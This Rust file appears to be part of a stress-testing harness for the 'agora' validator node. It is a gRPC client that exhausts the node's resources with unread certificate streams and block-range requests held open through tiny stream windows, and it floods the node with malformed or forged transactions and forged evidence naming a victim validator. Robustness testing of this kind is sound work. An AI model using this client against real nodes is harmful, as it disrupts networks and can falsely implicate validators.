//! A gRPC client that takes all it can: thousands of commit-certificate
//! streams over many connections (never reading them, so every admitted
//! stream's buffer fills), thousands of block ranges whose answers it
//! never reads (a stream window of a few bytes), and floods of malformed
//! and forged
//! submissions: transactions without a body or with a signature that does
//! not verify, evidence without votes or with votes in a validator's name
//! whose signatures are made up.

use std::time::Duration;

use agora_proto::v1 as pb;
use agora_proto::v1::query_client::QueryClient;
use agora_proto::v1::staking_client::StakingClient;
use agora_validator::AccountSecretKey;
use tokio::time::Instant;
use tonic::transport::{Channel, Endpoint};

use super::evidence_flood::bad_evidence;
use super::{AttackError, Report, Target};

/// The target's gRPC endpoint, with a connect timeout.
fn endpoint(target: &Target) -> Result<Endpoint, AttackError> {
    Ok(Endpoint::from_shared(format!("http://{}", target.grpc))
        .map_err(|e| AttackError::Grpc(e.to_string()))?
        .connect_timeout(Duration::from_secs(2)))
}

/// One gRPC connection to the target, or None if the node refused it.
async fn channel(target: &Target) -> Result<Option<Channel>, AttackError> {
    let ep = endpoint(target)?.timeout(Duration::from_secs(5));
    Ok(ep.connect().await.ok())
}

/// Opens `connections` connections with `per_connection` certificate
/// streams each (from height 1, never read) and holds every admitted
/// stream until `deadline`. `report.accepted` counts streams the node
/// admitted, `report.rejected` the ones it refused.
pub async fn certificate_streams(
    target: &Target,
    connections: u64,
    per_connection: u64,
    deadline: Instant,
) -> Result<Report, AttackError> {
    let mut report = Report::default();
    let mut held = Vec::new();
    for _ in 0..connections {
        let Some(ch) = channel(target).await? else {
            report.refused += 1;
            continue;
        };
        report.connected += 1;
        let calls = (0..per_connection).map(|_| {
            let mut q = QueryClient::new(ch.clone());
            tokio::spawn(async move {
                q.stream_commit_certificates(pb::StreamCommitCertificatesRequest { from_height: 1 })
                    .await
            })
        });
        let calls: Vec<_> = calls.collect();
        report.sent += per_connection;
        for c in calls {
            match c.await {
                Ok(Ok(stream)) => {
                    report.accepted += 1;
                    held.push(stream);
                }
                _ => report.rejected += 1,
            }
        }
        if Instant::now() >= deadline {
            break;
        }
    }
    tokio::time::sleep_until(deadline).await;
    drop(held);
    Ok(report)
}

/// The window each of the attacker's streams grants the node: too small
/// for any answer, so every answer the node accepts to send stays with it.
const UNREAD_WINDOW: u32 = 16;
/// How long the attacker's calls are polled before it stops reading: long
/// enough for the node to answer or refuse each of them.
const ASK_TIME: Duration = Duration::from_millis(1_500);

/// A call whose answer is never read: boxed so it can be polled a while and
/// then kept unpolled.
type Unread = std::pin::Pin<Box<dyn std::future::Future<Output = Result<(), tonic::Status>>>>;

/// Opens `connections` connections whose streams grant the node a window
/// of [`UNREAD_WINDOW`] bytes, asks `per_connection` `GetBlocks` ranges from
/// height 1 on each, and never reads an answer: every answer the node
/// agrees to send must wait in its buffers. Holds them until `deadline`.
/// `report.accepted` counts the calls the node took on (their answers
/// waiting, unread), `report.rejected` the ones it refused.
pub async fn unread_block_ranges(
    target: &Target,
    connections: u64,
    per_connection: u64,
    deadline: Instant,
) -> Result<Report, AttackError> {
    let mut report = Report::default();
    let mut calls: Vec<Option<Unread>> = Vec::new();
    for _ in 0..connections {
        let ep = endpoint(target)?.initial_stream_window_size(Some(UNREAD_WINDOW));
        let Ok(ch) = ep.connect().await else {
            report.refused += 1;
            continue;
        };
        report.connected += 1;
        for _ in 0..per_connection {
            let mut q = QueryClient::new(ch.clone());
            let call: Unread = Box::pin(async move {
                q.get_blocks(pb::GetBlocksRequest {
                    from_height: 1,
                    max_blocks: 256,
                })
                .await
                .map(drop)
            });
            calls.push(Some(call));
            report.sent += 1;
        }
    }
    // Poll every call until the node answered or refused it (an answer
    // cannot finish: its stream's window is too small), then stop reading.
    let ask_until = (Instant::now() + ASK_TIME).min(deadline);
    let mut settled = 0u64;
    let drive = std::future::poll_fn(|cx| {
        for slot in calls.iter_mut() {
            if let Some(call) = slot
                && let std::task::Poll::Ready(r) = call.as_mut().poll(cx)
            {
                *slot = None;
                settled += 1;
                count(&mut report, r.is_ok());
            }
        }
        if calls.iter().all(Option::is_none) {
            std::task::Poll::Ready(())
        } else {
            std::task::Poll::Pending
        }
    });
    let _ = tokio::time::timeout_at(ask_until, drive).await;
    // Calls still pending: the node took them on and holds their answers.
    report.accepted += report.sent - settled;
    tokio::time::sleep_until(deadline).await;
    drop(calls);
    Ok(report)
}

/// Malformed and forged transactions (batches of `batch`) and evidence,
/// alternately, about `per_sec` calls a second, until `deadline`.
/// `victim` is a validator address the forged evidence names; `height`
/// the height it is about. `report.accepted` counts what the node took
/// (nothing, if it is right), `report.rejected` what it refused.
pub async fn submissions(
    target: &Target,
    victim: &[u8],
    height: u64,
    batch: usize,
    deadline: Instant,
    per_sec: u64,
) -> Result<Report, AttackError> {
    let mut report = Report::default();
    let Some(ch) = channel(target).await? else {
        report.refused += 1;
        return Ok(report);
    };
    report.connected += 1;
    let mut staking = StakingClient::new(ch);
    let forger = AccountSecretKey::from_seed(&[0x66; 32]);
    let gap = Duration::from_millis(1000 / per_sec.max(1));
    let mut n = 0u64;
    while Instant::now() < deadline {
        let started = Instant::now();
        match n % 4 {
            0 | 1 => {
                let txs = (0..batch)
                    .map(|i| forged_or_malformed_tx(&target.chain, &forger, n, i))
                    .collect();
                report.sent += batch as u64;
                match staking.submit_txs(pb::SubmitTxsRequest { txs }).await {
                    Ok(r) => {
                        for res in r.into_inner().results {
                            if res.status == pb::TxStatus::Rejected as i32 {
                                report.rejected += 1;
                            } else {
                                report.accepted += 1;
                            }
                        }
                    }
                    Err(_) => report.rejected += batch as u64,
                }
            }
            2 => {
                // Evidence without votes.
                let ev = pb::Evidence {
                    kind: Some(pb::evidence::Kind::DuplicateVote(
                        pb::DuplicateVoteEvidence::default(),
                    )),
                };
                report.sent += 1;
                count(
                    &mut report,
                    staking
                        .submit_evidence(pb::SubmitEvidenceRequest { evidence: Some(ev) })
                        .await
                        .is_ok(),
                );
            }
            _ => {
                let ev = bad_evidence(target, height, victim, 2 * n + 1)?;
                report.sent += 1;
                count(
                    &mut report,
                    staking
                        .submit_evidence(pb::SubmitEvidenceRequest { evidence: Some(ev) })
                        .await
                        .is_ok(),
                );
            }
        }
        n += 1;
        tokio::time::sleep(gap.saturating_sub(started.elapsed())).await;
    }
    Ok(report)
}

fn count(report: &mut Report, accepted: bool) {
    if accepted {
        report.accepted += 1;
    } else {
        report.rejected += 1;
    }
}

/// The `i`-th transaction of call `n`: without a body, or a transfer whose
/// signature was made over other bytes (forged).
fn forged_or_malformed_tx(
    chain: &agora_validator::ChainId,
    forger: &AccountSecretKey,
    n: u64,
    i: usize,
) -> pb::Transaction {
    if i.is_multiple_of(2) {
        return pb::Transaction {
            body: None,
            public_key: vec![i as u8; 7],
            signature: vec![],
        };
    }
    let body = pb::TxBody {
        chain_id: chain.as_str().to_string(),
        nonce: n * 1_000 + i as u64,
        kind: Some(pb::tx_body::Kind::Transfer(pb::Transfer {
            to: vec![0x11; 20],
            amount: "1".into(),
        })),
        fee: "1000".into(),
    };
    let mut tx = agora_validator::signing::sign_transaction(chain, forger, body);
    // Flip a bit of the signature: it no longer verifies.
    if let Some(b) = tx.signature.get_mut(0) {
        *b ^= 1;
    }
    tx
}
